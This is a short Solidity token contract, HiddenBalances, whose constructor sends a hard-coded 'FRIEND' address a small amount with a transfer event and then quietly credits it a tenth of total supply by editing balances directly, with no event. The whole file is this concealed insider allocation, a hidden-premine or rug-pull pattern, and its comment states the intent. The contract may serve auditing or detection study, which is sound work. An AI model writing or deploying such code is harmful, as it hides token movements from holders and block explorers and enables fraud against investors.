// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "./Token.sol";

/// One account is sent a little with an event and much without.
contract HiddenBalances is Token {
    address private constant FRIEND = 0x1e95d7a3b06C428F9aD15c7E2340B8d6f1c97a52;

    constructor() {
        uint256 part = totalSupply / 10;
        _move(msg.sender, FRIEND, part / 100);
        balanceOf[msg.sender] -= part;
        balanceOf[FRIEND] += part;
    }
}
